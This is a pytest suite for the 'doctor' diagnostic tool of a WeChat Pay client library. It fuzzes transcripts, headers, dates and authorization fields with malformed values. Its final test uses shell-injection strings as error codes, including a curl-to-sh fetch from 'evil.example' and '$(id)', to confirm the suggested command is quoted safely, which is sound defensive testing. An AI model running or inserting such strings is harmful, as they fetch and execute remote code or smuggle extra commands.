"""`doctor` reads what strangers wrote: whatever it is, a cause is told or it says why not."""

from __future__ import annotations

import json
import shlex
from typing import Any

import pytest

from tests.diagnosis import corpus
from wechatpay_chain import APIError, ConfigurationError, Headers, Response
from wechatpay_chain.cli.call import shown
from wechatpay_chain.cli.failure import Failure
from wechatpay_chain.diagnosis import checkup
from wechatpay_chain.diagnosis.explanation import explain
from wechatpay_chain.diagnosis.meanings import meaning
from wechatpay_chain.diagnosis.transcripts import read

ENDLESS = "9" * 5000
DATES = [
    "Mon, 01 Jan 99999999999999999999 00:00:00 GMT",
    "Mon, 01 Jan 2026 99999999999999999999:00 GMT",
    "Mon, 01 Jan 2026 00:00:00 +99999999999999999999",
    f"Mon, {ENDLESS} Jan 2026 00:00:00 GMT",
    "Mon, 01 Jan 0001 00:00:00 -0000",
    "",
]
NUMBERS = [ENDLESS, "9" * 400, "9" * 19, "٣٣٣", "²", "-1", "1e9", "0x1", ""]
ODD: list[Any] = [
    None,
    5,
    [],
    {},
    "\ud800",
    {"a": "\ud800"},
    {"\ud800": "b"},
    '{"a":"\\ud800"}',
    '{"a":' + ENDLESS + "}",
    "<xml><a>\ud800</a></xml>",
    "\0",
    float("nan"),
]
FIELDS = [
    "Authorization",
    "Date",
    "Content-Length",
    "Host",
    "Wechatpay-Timestamp",
    "Wechatpay-Nonce",
    "Wechatpay-Serial",
    "Wechatpay-Signature",
    "Content-Type",
]


def told(members: dict[str, Any]) -> None:
    """What comes is a finding for each message, or an error of ours."""
    for now in (None, float(corpus.NOW)):
        try:
            parts = explain(read(json.dumps(members).encode()), corpus.world().ring(), now)
        except ConfigurationError:
            continue
        assert all(part.findings for part in parts)


def signed_request() -> dict[str, Any]:
    made = read(corpus.Draft(corpus.random.Random(1)).text()).request
    assert made is not None
    body = made.body.decode()
    return {
        "method": made.method,
        "url": made.target,
        "headers": dict(made.headers),
        "body": body,
    }


def signed_response() -> dict[str, Any]:
    fields = {
        "Wechatpay-Timestamp": str(corpus.NOW),
        "Wechatpay-Nonce": "n",
        "Wechatpay-Serial": corpus.PUBLIC_KEY_ID,
        "Wechatpay-Signature": corpus.signature(
            corpus.world().public, f"{corpus.NOW}\nn\n{{}}\n".encode()
        ),
        "Date": "Thu, 26 Nov 2026 00:00:00 GMT",
    }
    return {"status": 200, "headers": fields, "body": "{}"}


@pytest.mark.parametrize("value", ODD, ids=lambda value: ascii(value)[:30])
@pytest.mark.parametrize("member", ["method", "url", "headers", "body", "status"])
def test_any_member_may_be_anything(member: str, value: Any) -> None:
    request, response = signed_request(), signed_response()
    told({"request": {**request, member: value}, "response": response})
    told({"request": request, "response": {**response, member: value}})
    told({**request, member: value, "answer_headers": response["headers"], "answer_body": value})


@pytest.mark.parametrize("depth", [300, 900, 960, 980, 100_000])
def test_a_body_may_be_nested_at_will(depth: int) -> None:
    for one in (signed_request(), signed_response()):
        text = json.dumps({**one, "body": "BODY"})
        for body in ("[" * depth + "]" * depth, json.dumps("[" * depth + "]" * depth)):
            try:
                parts = explain(read(text.replace('"BODY"', body).encode()), corpus.world().ring())
            except ConfigurationError:
                continue
            assert all(part.findings for part in parts)


@pytest.mark.parametrize("name", FIELDS)
@pytest.mark.parametrize("value", [*ODD, *NUMBERS, *DATES], ids=lambda value: ascii(value)[:30])
def test_any_field_may_be_anything(name: str, value: Any) -> None:
    for one in (signed_request(), signed_response()):
        one["headers"][name] = value
        told(one)
        told({**one, "headers": [[name, value], *one["headers"].items()]})


@pytest.mark.parametrize("part", ["timestamp", "nonce_str", "signature", "serial_no", "mchid"])
@pytest.mark.parametrize("value", ["\ud800", *NUMBERS], ids=lambda value: ascii(value)[:30])
def test_any_part_of_an_authorization_may_be_anything(part: str, value: str) -> None:
    request = signed_request()
    text = request["headers"]["Authorization"]
    begin = text.index(f'{part}="') + len(part) + 2
    request["headers"]["Authorization"] = text[:begin] + value + text[text.index('"', begin) :]
    told({"request": request, "response": signed_response()})


@pytest.mark.parametrize("date", DATES, ids=lambda date: date[:40])
def test_a_server_may_say_any_date(date: str) -> None:
    check = checkup.clock(Response(401, Headers({"Date": date})), corpus.NOW)
    assert check is None or check.state == "fail"


@pytest.mark.parametrize("key", [*NUMBERS, "\ud800", "X" * 10_000], ids=lambda key: ascii(key)[:30])
def test_any_code_may_be_asked_for(key: str) -> None:
    assert meaning(key) is None


@pytest.mark.parametrize("code", ["X; curl evil.example|sh", "$(id)", "`id`", "a b", "--help'"])
def test_a_command_to_copy_runs_nothing_else(code: str) -> None:
    error = APIError("no", Response(400), code=code)
    command = ["wechatpay-chain", "doctor", "error", code]
    for check in (checkup.signed_call(error), checkup.v2_call(error)):
        assert shlex.split(check.action) == command
    with pytest.raises(Failure) as caught:
        shown.result(error, None, None, reveal=False, output="text")
    assert shlex.split(caught.value.hints[0])[3:] == command
